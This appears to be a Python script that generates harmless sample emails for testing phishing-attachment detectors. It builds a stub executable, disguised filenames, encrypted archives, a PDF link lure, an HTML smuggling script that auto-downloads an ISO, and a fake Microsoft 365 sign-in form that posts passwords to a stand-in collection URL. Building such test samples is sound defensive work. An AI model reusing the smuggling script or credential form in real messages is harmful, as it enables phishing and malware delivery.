"""Build the harmless attack samples for the attachment detectors (run to regenerate).

Nothing here runs: the "executable" is a bare MZ/PE header, the smuggled file is text,
the login page posts to a reserved example domain (RFC 2606).
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pyzipper
from sample_mail import message

HERE = Path(__file__).parent
PE = b"MZ" + b"\0" * 58 + b"\x40\0\0\0" + b"PE\0\0" + b"\x4c\x01" + b"\0" * 200
SMUGGLE = (
    b"<html><body><script>var b=atob('" + b"SGVsbG8gd29ybGQK" * 20 + b"');"
    b"var blob=new Blob([b],{type:'application/octet-stream'});var a=document.createElement('a');"
    b"a.href=URL.createObjectURL(blob);a.download='invoice.iso';a.click();</script></body></html>"
)
LOGIN = (
    b"<html><body><h1>Microsoft 365</h1><form action='https://login.example.net/collect.php' "
    b"method='post'><input name='email'><input type='password' name='pass'>"
    b"<button>Sign in</button></form></body></html>"
)
# A one-page statement whose only link goes through a shortener (the reserved example
# path of a real shortener host; nothing is fetched).
PDF_LURE = (
    b"%PDF-1.7\n1 0 obj <</Type /Page /Annots [2 0 R]>> endobj\n"
    b"2 0 obj <</Type /Annot /Subtype /Link /A <</S /URI /URI (https://bit.ly/example)>> >>"
    b" endobj\n%%EOF\n"
)


def zipped(name: str, data: bytes, password: bytes = b"") -> bytes:
    buf = io.BytesIO()
    if password:  # AES, as attackers send them (WinZip AE-2)
        with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED,
                                 encryption=pyzipper.WZ_AES) as z:  # fmt: skip
            z.setpassword(password)
            z.writestr(name, data)
    else:
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, data)
    return buf.getvalue()


SAMPLES = {
    "double_extension": (
        "Invoice",
        "See the invoice.",
        [("invoice.pdf.exe", PE, "application/octet-stream")],
    ),
    "rtlo_filename": ("Scan", "Scanned.", [("scan\u202efdp.exe", PE, "application/octet-stream")]),
    "dangerous_attachment": (
        "Order",
        "Order attached.",
        [("order.zip", zipped("order.pdf.exe", PE), "application/zip")],
    ),
    "file_type_mismatch": ("Report", "Report attached.", [("report.pdf", PE, "application/pdf")]),
    "encrypted_archive": (
        "Secure file",
        "The password is: infected",
        [("secure.zip", zipped("doc.js", b"WScript.Echo(1)", b"infected"), "application/zip")],
    ),
    "html_smuggling": (
        "Voicemail",
        "Open the attachment.",
        [("voicemail.html", SMUGGLE, "text/html")],
    ),
    "pdf_link_lure": (
        "Statement available",
        "Your statement is attached.",
        [("Statement.pdf", PDF_LURE, "application/pdf")],
    ),
    "html_credential_form": (
        "Password expiry",
        "Sign in to keep your password.",
        [("login.htm", LOGIN, "text/html")],
    ),
}

if __name__ == "__main__":
    for name, (subject, body, files) in SAMPLES.items():
        (HERE / name).mkdir(exist_ok=True)
        (HERE / name / "sample.eml").write_bytes(message(subject, files, body))
